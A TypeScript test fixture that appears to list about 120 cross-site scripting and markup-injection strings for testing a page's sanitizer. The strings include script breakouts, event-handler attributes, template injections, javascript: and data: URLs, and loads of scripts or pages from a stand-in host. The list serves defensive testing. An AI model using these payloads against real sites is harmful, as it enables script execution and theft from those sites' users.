/** 120 texts that would run a script, load something from elsewhere or break out of where they stand, if a page put them there as markup. */
export const foreignHost = 'https://xss.invalid';

const image = `${foreignHost}/x.png`;
/** What a text calls when it runs; the page defines it. */
const run = 'hubXss()';

const tags = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${foreignHost}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<script type=module>${run}</script>`,
  `<script\u0000>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${foreignHost}/x.js"/></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
];

const handled: [tag: string, handler: string][] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['p style="animation:turn 1s"', 'onanimationstart'],
  ['a href=#', 'onmouseover'],
  ['div tabindex=1', 'onpointerenter'],
  ['form', 'onsubmit'],
  ['meter', 'onmouseover'],
  ['button popovertarget=x', 'onclick'],
  ['dialog open', 'onbeforetoggle'],
  ['math href=x', 'onclick'],
];
const handlers = handled.flatMap(([tag, handler]) => [`<${tag} ${handler}=${run}>`, `"><${tag.toUpperCase()} ${handler.toUpperCase()}="${run}"/>`]);

const attributes = [
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}" x="`,
  `\` onmouseover=${run} \``,
  `x" style="background:url(${image})`,
  `x" href="javascript:${run}`,
  `x' srcset='${image} 2x`,
  `"\nonclick="${run}`,
  `" /><img src=x onerror="${run}`,
  `&quot; onmouseover=&quot;${run}`,
];

const loads = [
  `<img src="${image}">`,
  `<img srcset="${image} 1x">`,
  `<picture><source srcset="${image}"><img src=x></picture>`,
  `<link rel=stylesheet href="${foreignHost}/x.css">`,
  `<link rel=preload as=image href="${image}">`,
  `<link rel=icon href="${image}">`,
  `<iframe src="${foreignHost}/"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${foreignHost}/x.swf"></object>`,
  `<embed src="${foreignHost}/x">`,
  `<video poster="${image}"></video>`,
  `<style>@import "${foreignHost}/x.css";</style>`,
  `<style>*{background:url(${image})}</style>`,
  `<base href="${foreignHost}/">`,
  `<meta http-equiv=refresh content="0;url=${foreignHost}/">`,
  `<form action="${foreignHost}/"><button>Publish</button></form>`,
  `<svg><image href="${image}"/></svg>`,
  `<svg><use href="${foreignHost}/x.svg#a"/></svg>`,
  `![x](${image})`,
  `[x](javascript:${run})`,
  `<${image}>`,
  `[x]: javascript:${run} "x"\n\n[x]`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{{{${run}}}}`,
  `__proto__`,
  `constructor`,
  `\u202egnp.exe\u202c<img src=x onerror=${run}>`,
  `<img src=x onerror=${run}//`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
];

/** Whole values where a page makes a link or an address of a text. */
export const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript://x%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5odWJYc3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `//xss.invalid/x.png`,
  image,
  `\\\\xss.invalid\\x.png`,
  `blob:${foreignHost}/x`,
  `https:xss.invalid`,
];

export const texts = [...tags, ...handlers, ...attributes, ...loads, ...templates];
